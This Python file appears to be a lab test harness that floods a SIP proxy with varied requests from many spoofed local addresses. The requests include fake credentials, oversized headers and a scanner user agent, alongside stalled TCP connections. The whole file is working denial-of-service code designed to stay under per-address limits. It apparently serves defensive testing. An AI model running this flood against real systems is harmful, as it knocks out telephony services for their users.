"""A flood of requests of all kinds from many addresses, as fast as they can be sent. Runs where the attacker is."""

import contextlib
import itertools
import secrets
import socket
import subprocess
import time

from tests.lab.wire import DOMAIN, SDP

# Addresses of the attacker's own, of which each stays below what one is heard for.
NETWORK = "203.0.113"
# Connections that never bring the rest of a message.
STALLED = 200


def storm(proxy: str, seconds: float, addresses: int) -> int:
    """Send for so many seconds; how many requests it were. No two are the same call or transaction."""
    subprocess.run(["ip", "route", "replace", "local", f"{NETWORK}.0/24", "dev", "lo"], check=True)
    kinds = requests()
    with contextlib.ExitStack() as stack:
        sockets = [stack.enter_context(_at(f"{NETWORK}.{host}", proxy)) for host in range(1, 1 + addresses)]
        for _ in range(STALLED):
            with contextlib.suppress(OSError):
                stalled = stack.enter_context(socket.create_connection((proxy, 5060), timeout=2))
                stalled.sendall(kinds[0].split(b"Content-Length")[0])
        end = time.monotonic() + seconds
        for count, (kind, udp) in enumerate(zip(itertools.cycle(kinds), itertools.cycle(sockets), strict=False)):
            if not count % 100 and time.monotonic() > end:
                return count
            with contextlib.suppress(BlockingIOError):
                udp.send(kind.replace(b"NUMBER", b"%d" % count))
    return 0


def requests() -> list[bytes]:
    """One of each kind, with NUMBER where they have to differ."""
    realm = f'Digest username="slot_5NUMBER", realm="{DOMAIN}", nonce="{secrets.token_hex(20)}"'
    credentials = f'Authorization: {realm}, uri="sip:{DOMAIN}", response="{"0" * 32}", algorithm=MD5'
    return [
        _request("REGISTER"),
        _request("REGISTER", credentials),
        _request("INVITE", body=SDP.format("203.0.113.1")),
        _request("INVITE", credentials.replace("Auth", "Proxy-Auth"), body=SDP.format("203.0.113.1")),
        _request("OPTIONS"),
        _request("OPTIONS", f"X-Long: {'x' * 10_000}"),
        _request("OPTIONS", "User-Agent: friendly-scanner"),
        _request("MESSAGE"),
        _request("BYE", to_tag=";tag=NUMBER"),
        _request("CANCEL"),
    ]


def _request(method: str, *headers: str, to_tag: str = "", body: str = "") -> bytes:
    target = f"sip:{DOMAIN}" if method in ("REGISTER", "OPTIONS") else f"sip:6001@{DOMAIN}"
    lines = [
        f"{method} {target} SIP/2.0",
        "Via: SIP/2.0/UDP 203.0.113.1;branch=z9hG4bKNUMBER;rport",
        "Max-Forwards: 70",
        f"From: <sip:slot_5NUMBER@{DOMAIN}>;tag=NUMBER",
        f"To: <sip:slot_5NUMBER@{DOMAIN}>{to_tag}",
        "Call-ID: NUMBER",
        f"CSeq: 1 {method}",
        "Contact: <sip:slot_5NUMBER@203.0.113.1>",
        *headers,
        *(["Content-Type: application/sdp"] if body else []),
        f"Content-Length: {len(body)}",
    ]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body.encode()


def _at(address: str, proxy: str) -> socket.socket:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 0))
    udp.connect((proxy, 5060))
    udp.setblocking(False)
    return udp
